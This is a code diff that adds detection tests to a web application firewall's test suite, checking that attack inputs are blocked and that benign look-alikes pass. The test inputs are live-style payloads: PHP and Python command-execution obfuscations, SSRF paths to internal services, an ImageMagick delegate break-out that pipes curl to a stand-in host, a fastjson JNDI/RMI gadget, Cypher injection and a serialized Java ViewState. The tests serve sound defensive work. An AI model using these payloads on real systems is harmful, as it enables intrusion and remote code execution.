@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import gzip
 import json
 from typing import Any
 from urllib.parse import quote, unquote
@@ -1414,3 +1415,50 @@ def test_a_java_base_stack_frame_is_not_a_class_an_exploit_names(guard: WAFGuard
     )
     assert verdict_of(guard, request("POST", body=json.dumps({"log": trace}), content_type="application/json")) is None
     assert verdict_of(guard, request(query="c=java.lang.Thread")) is not None
+
+
+def _multipart_file(filename_header: str, content: str) -> str:
+    return (
+        f'--b\r\nContent-Disposition: form-data; name="file"; filename="{filename_header}"\r\n'
+        f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n--b--\r\n"
+    )
+
+
+def test_the_fifteenth_blind_sets_techniques_are_refused(guard: WAFGuard) -> None:
+    """From the fifteenth blind set's misses, each read as a technique: a file name a line break
+    splits, a callee decoded from a literal, a by-name call with a concatenated name, the machine's
+    own address and port as a path segment, ImageMagick's delegate break-out, a Cypher tautology then
+    RETURN, fastjson's descriptor-dressed class names, a gzip'd Java object percent-encoded in a form."""
+    split = _multipart_file("name.txt\r\nContent-Type: text/html", "hello")
+    assert verdict_of(guard, request("POST", body=split, content_type="multipart/form-data; boundary=b"))
+    for value in ("(base64_decode('c3lzdGVt'))('id');", "(str_rot13('flfgrz'))('id');",
+                  "send('sy'+'stem','id')", "getattr(os, 'sys'+'tem')('id')", "' || true RETURN u //"):  # fmt: skip
+        assert verdict_of(guard, request(query="q=" + quote(value))), value
+    for path in ("/fetch/127.0.0.1:8080/actuator/env", "/proxy/[::1]:6379/info"):
+        assert verdict_of(guard, request(path=path)), path
+    mvg = "push graphic-context\nfill 'url(https://a.example/i.jpg\"|curl \"http://x.example/s)'\n"
+    upload = _multipart_file("x.mvg", mvg)
+    assert verdict_of(guard, request("POST", body=upload, content_type="multipart/form-data; boundary=b"))
+    fastjson = json.dumps({"@type": "LLcom.sun.rowset.JdbcRowSetImpl;;", "dataSourceName": "rmi://x.example/a"})
+    assert verdict_of(guard, request("POST", body=fastjson, content_type="application/json"))
+    stream = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(range(64))
+    view_state = base64.b64encode(gzip.compress(stream)).decode()
+    form = "javax.faces.ViewState=" + quote(view_state, safe="")
+    assert verdict_of(guard, request("POST", body=form, content_type="application/x-www-form-urlencoded"))
+
+
+def test_what_the_fifteenth_sets_techniques_leave_alone(guard: WAFGuard) -> None:
+    """A count of 0 in a header that names no host, JSON Schema's `$comment`, a host named in a path
+    without a port, and relative links in rich text (an HTML `href`, a Markdown link whose anchor came
+    percent-encoded)."""
+    assert verdict_of(guard, request(headers=[("x-chunk-index", "0")])) is None
+    assert verdict_of(guard, request(headers=[("x-forwarded-host", "0")]))
+    schema = json.dumps({"$schema": "https://json-schema.org/draft/2020-12/schema", "$comment": "v2 fields"})
+    assert verdict_of(guard, request("POST", body=schema, content_type="application/json")) is None
+    assert verdict_of(guard, request(path="/api/hosts/127.0.0.1/status")) is None
+    html = '<p>See the <a href="../handbook/pto.html">PTO policy</a> and the <a href="../../benefits/index.html">ones'
+    html += " we offer</a>.</p>"
+    markdown = "See [setup guide](../docs/setup.md) and [FAQ](../../FAQ.md#what-is-1%3D1) for the details."
+    for text in (html, markdown):
+        body = "comment=" + quote(text, safe="")
+        assert verdict_of(guard, request("POST", body=body, content_type="application/x-www-form-urlencoded")) is None
